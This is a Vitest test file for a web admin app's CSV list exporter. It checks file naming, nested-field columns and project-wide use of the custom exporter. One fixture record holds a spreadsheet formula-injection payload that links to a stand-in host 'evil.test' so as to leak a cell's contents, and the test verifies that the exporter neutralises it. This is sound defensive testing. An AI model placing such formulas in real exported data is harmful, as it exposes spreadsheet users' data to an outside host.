import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { listExporter, recordRows } from '../../src/components/tableExport/listExporter';
import * as files from '../../src/components/useFileDownload';

const SRC = path.resolve(__dirname, '../../src');

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(full);
    return /\.tsx?$/.test(entry.name) ? [full] : [];
  });
}

const importsFromReactAdmin = (text: string, name: string) => new RegExp(`import\\s*{[^}]*\\b${name}\\b[^}]*}\\s*from\\s*'react-admin'`).test(text);

describe('a list’s CSV export (the product’s writer, never react-admin’s jsonexport)', () => {
  afterEach(() => vi.restoreAllMocks());

  it('downloads the records as <resource>.csv, nested fields under dotted names, formulas neutralised', async () => {
    const saved: { name: string; text: Promise<string> }[] = [];
    vi.spyOn(files, 'saveBlob').mockImplementation((blob, name) => void saved.push({ name, text: blob.text() }));
    const records = [
      { id: 1, user: { id: 'u1', name: 'Иван' }, input: '=HYPERLINK("http://evil.test/?"&A2,"Open")', host: '@evil.test', success: false },
      { id: 2, user: null, input: 'ivan', host: null, success: true, rates: [{ id: 'r1', name: 'Базовый' }, { id: 'r2', name: '-Премиум' }] },
    ];
    await listExporter(records, () => Promise.resolve({}), {} as never, 'journal');
    expect(saved[0]!.name).toBe('journal.csv');
    expect(await saved[0]!.text).toBe(
      '\uFEFFid;user.id;user.name;input;host;success;user;rates\r\n' +
        `1;u1;Иван;"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")";'@evil.test;false;;\r\n` +
        `2;;;ivan;;true;;"Базовый, -Премиум"\r\n`,
    );
  });

  it('keeps the columns of every record in the order met', () => {
    expect(recordRows([{ id: 1, a: -5 }, { id: 2, b: '+1' }])).toEqual([['id', 'a', 'b'], [1, -5, undefined], [2, undefined, '+1']]);
  });

  it('is what every react-admin list of the app exports with (or it exports nothing)', () => {
    const unnamed: string[] = [];
    for (const file of sourceFiles(SRC)) {
      const text = readFileSync(file, 'utf8');
      expect([path.relative(SRC, file), /import\s*{[^}]*\b(defaultExporter|downloadCSV)\b|from\s*'jsonexport/.test(text)]).toEqual([path.relative(SRC, file), false]);
      for (const match of text.matchAll(/<(List|ListBase|InfiniteList|ListController)\b([^>]*)>/g)) {
        // MUI's List is a plain list, not a data list
        if (!importsFromReactAdmin(text, match[1]!)) continue;
        if (!/\bexporter=/.test(match[2] ?? '')) unnamed.push(`${path.relative(SRC, file)} <${match[1]}>`);
      }
      for (const match of text.matchAll(/\b(useList|useListController|useInfiniteListController)\((\{[^;]*?\})\)/gs)) {
        if (!/\bexporter:/.test(match[2] ?? '')) unnamed.push(`${path.relative(SRC, file)} ${match[1]}`);
      }
    }
    expect(unnamed).toEqual([]);
  });
});
